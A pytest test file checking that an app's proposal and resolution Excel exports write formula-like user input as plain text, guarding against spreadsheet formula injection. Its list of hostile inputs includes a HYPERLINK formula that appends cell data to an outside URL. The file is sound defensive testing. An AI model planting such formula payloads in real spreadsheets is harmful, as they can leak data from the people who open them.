"""The proposal and resolution exports write what people typed as text, never as a formula."""

from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from lianxin.core import clock
from lianxin.proposals import services
from lianxin.proposals.models import Proposal, Resolution
from lianxin.proposals.tests.factories import meeting, submit, worker

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://e.cn/"&L2)', "+cmd", "-1+2", "@SUM(1)", "#N/A"]


def rows_of(response) -> list[list]:
    assert response.status_code == 200
    return [list(r) for r in load_workbook(BytesIO(response.content)).active.iter_rows()][1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_proposals_export_writes_formula_like_texts_as_exact_text(world, client, text):
    # given a proposal whose title, department and proposer were typed as formulas
    p = submit(actor=worker(text), enterprise=world.ent_a1, title=text, department=text)
    Proposal.objects.filter(pk=p.pk).update(benefit_description=text)
    client.force_login(world.chair)
    # when the proposals are exported
    (row,) = rows_of(client.get("/proposals/export.xlsx"))
    # then title, department, proposers and benefit are strings with exactly that text
    assert [(row[i].data_type, row[i].value) for i in (1, 4, 5, 12)] == [("s", text)] * 4


@pytest.mark.parametrize("text", HOSTILE)
def test_resolutions_export_writes_formula_like_texts_as_exact_text(world, client, text):
    # given a resolution whose meeting, text and owner were typed as formulas
    m = meeting(actor=world.chair, org=world.ent_a1, title=text)
    services.add_resolution(
        meeting_id=m.pk, actor=world.chair, text=text, owner_name=text,
        due=clock.now() + timedelta(days=3),
    )  # fmt: skip
    Resolution.objects.filter(meeting=m).update(outcome=text)
    client.force_login(world.chair)
    # when the resolutions are exported
    (row,) = rows_of(client.get("/proposals/resolutions/export.xlsx"))
    # then meeting, resolution, owner and outcome are strings with exactly that text
    assert [(row[i].data_type, row[i].value) for i in (1, 3, 4, 9)] == [("s", text)] * 4


def test_proposals_export_of_an_old_row_with_control_characters_is_a_valid_workbook(world, client):
    # given a proposal stored before inputs stripped control characters
    p = submit(actor=worker(), enterprise=world.ent_a1, title="换模")
    Proposal.objects.filter(pk=p.pk).update(title="换\x01模\x1b")
    client.force_login(world.chair)
    # when exported / then the workbook opens and the title lost only the controls
    (row,) = rows_of(client.get("/proposals/export.xlsx"))
    assert row[1].value == "换模"
